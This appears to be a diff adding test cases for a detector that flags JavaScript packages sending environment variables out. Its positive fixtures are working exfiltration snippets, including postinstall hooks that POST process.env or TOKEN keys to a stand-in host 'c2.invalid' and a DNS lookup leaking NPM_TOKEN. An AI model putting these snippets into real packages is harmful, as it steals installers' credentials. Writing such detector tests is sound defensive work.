@@ -1,0 +1,76 @@
+import { examine } from '../../../test/examine.ts';
+import { sendsEnvironment } from './sends-environment.ts';
+
+const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
+
+examine(sendsEnvironment, {
+  speaks: [
+    {
+      when: 'a hook posts all of it',
+      files: {
+        'package.json': hook,
+        'setup.js': `const r = require('https').request({ hostname: 'c2.invalid', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()`,
+      },
+      weight: 'proof',
+      says: ['c2.invalid', 'when it is installed'],
+    },
+    {
+      when: 'an import puts it into an address',
+      files: {
+        'index.js': `const q = require('querystring'); fetch('https://c2.invalid/?' + q.stringify({ e: JSON.stringify(process.env) }))`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'it is picked over by a pattern',
+      files: {
+        'package.json': hook,
+        'setup.js': `const out = {}; for (const k of Object.keys(process.env)) if (/TOKEN/.test(k)) out[k] = process.env[k]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(out) })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a token goes out as a name',
+      files: {
+        'package.json': hook,
+        'setup.js': `require('dns').lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.c2.invalid', () => {})`,
+      },
+      weight: 'proof',
+      says: ['NPM_TOKEN'],
+    },
+    {
+      when: 'the host is not known',
+      files: { 'package.json': hook, 'setup.js': `require('axios').post(hidden(), process.env)` },
+      weight: 'strong',
+    },
+  ],
+  silent: [
+    {
+      when: 'a client sends its own key when it is called',
+      files: {
+        'index.js': `exports.ask = () => fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })`,
+      },
+    },
+    {
+      when: 'a client sends its own key at once',
+      files: { 'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })` },
+    },
+    { when: 'the environment says which server to ask', files: { 'index.js': `fetch(process.env.REGISTRY_URL + '/ping')` } },
+    {
+      when: 'a bundle reads the environment and sends something else',
+      files: {
+        'index.js': `const all = { ...process.env }; exports.all = all; fetch('https://api.invalid/', { method: 'POST', body: 'hello' })`,
+      },
+    },
+    {
+      when: 'a program is started in it and its output is sent',
+      files: {
+        'index.js': `const out = require('child_process').execSync('git rev-parse HEAD', { env: process.env }); fetch('https://api.invalid/' , { method: 'POST', body: out })`,
+      },
+    },
+    {
+      when: 'it is sent to this machine',
+      files: { 'index.js': `fetch('http://localhost:3000/', { method: 'POST', body: JSON.stringify(process.env) })` },
+    },
+  ],
+});
